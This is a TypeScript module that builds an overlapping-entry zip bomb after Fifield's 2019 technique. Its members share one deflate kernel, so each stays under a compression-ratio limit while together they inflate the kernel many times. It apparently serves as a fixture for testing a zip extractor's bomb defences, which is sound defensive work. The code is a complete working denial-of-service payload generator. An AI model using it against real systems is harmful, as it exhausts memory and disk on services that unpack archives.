// The overlapping-entry zip bomb (David Fifield, "A better zip bomb", 2019): every member's
// compressed data runs on through the following members' local headers, each quoted by a
// non-final stored deflate block, into one shared final block (the kernel). No member is over
// the compression-ratio limit (each inflates to less than 1 MiB, where the ratio is not judged),
// yet N members inflate the kernel N times from a zip of a few kilobytes.
import { crc32, deflateRawSync } from 'node:zlib';

/** A member of {@link buildOverlapZip}: its name, and bytes of its own (a normal member) or the shared kernel. */
export interface OverlapZipOptions {
  /** Names of the overlapping members, in file order. */
  names: readonly string[];
  /** What the kernel inflates to. */
  payload: Uint8Array;
  /** Members written before the overlapping ones, as ordinary stored members. */
  plain?: readonly { name: string; data: Uint8Array }[];
}

function localHeader(name: Buffer, crc: number, compressed: number, size: number, method: number): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(0x800, 6);
  header.writeUInt16LE(method, 8);
  header.writeUInt16LE(0x5821, 12);
  header.writeUInt32LE(crc, 14);
  header.writeUInt32LE(compressed, 18);
  header.writeUInt32LE(size, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, name]);
}

function centralHeader(name: Buffer, crc: number, compressed: number, size: number, method: number, offset: number): Buffer {
  const header = Buffer.alloc(46);
  header.writeUInt32LE(0x02014b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(20, 6);
  header.writeUInt16LE(0x800, 8);
  header.writeUInt16LE(method, 10);
  header.writeUInt16LE(0x5821, 14);
  header.writeUInt32LE(crc, 16);
  header.writeUInt32LE(compressed, 20);
  header.writeUInt32LE(size, 24);
  header.writeUInt16LE(name.length, 28);
  header.writeUInt32LE(offset, 42);
  return Buffer.concat([header, name]);
}

/** A non-final stored deflate block quoting `bytes` (RFC 1951 §3.2.4). */
function quote(bytes: Buffer): Buffer {
  const head = Buffer.alloc(5);
  head[0] = 0; // BFINAL 0, BTYPE 00
  head.writeUInt16LE(bytes.length, 1);
  head.writeUInt16LE(~bytes.length & 0xffff, 3);
  return head;
}

/**
 * Builds the bomb in memory.
 *
 * @param options - Names, the kernel's payload, and ordinary members before them.
 * @returns The zip bytes; every overlapping member inflates to the payload plus the headers it quotes.
 */
export function buildOverlapZip({ names, payload, plain = [] }: OverlapZipOptions): Buffer {
  const kernel = deflateRawSync(payload);
  // Built from the last member back: each one's header is quoted by the one before.
  const headers: Buffer[] = new Array(names.length);
  let inflated = Buffer.from(payload);
  let compressed = kernel.length;
  for (let i = names.length - 1; i >= 0; i--) {
    const name = Buffer.from(names[i] as string, 'utf8');
    headers[i] = localHeader(name, crc32(inflated), compressed, inflated.length, 8);
    if (i > 0) {
      inflated = Buffer.concat([headers[i] as Buffer, inflated]);
      compressed += 5 + (headers[i] as Buffer).length;
    }
  }
  const parts: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data } of plain) {
    const encoded = Buffer.from(name, 'utf8');
    const bytes = Buffer.from(data);
    const header = localHeader(encoded, crc32(bytes), bytes.length, bytes.length, 0);
    centrals.push(centralHeader(encoded, crc32(bytes), bytes.length, bytes.length, 0, offset));
    parts.push(header, bytes);
    offset += header.length + bytes.length;
  }
  for (let i = 0; i < names.length; i++) {
    const header = headers[i] as Buffer;
    const fields = { crc: header.readUInt32LE(14), compressed: header.readUInt32LE(18), size: header.readUInt32LE(22) };
    centrals.push(centralHeader(Buffer.from(names[i] as string, 'utf8'), fields.crc, fields.compressed, fields.size, 8, offset));
    parts.push(header);
    offset += header.length;
    const following = headers[i + 1];
    if (following) {
      parts.push(quote(following));
      offset += 5;
    }
  }
  parts.push(kernel);
  offset += kernel.length;
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(centrals.length, 8);
  end.writeUInt16LE(centrals.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, cd, end]);
}
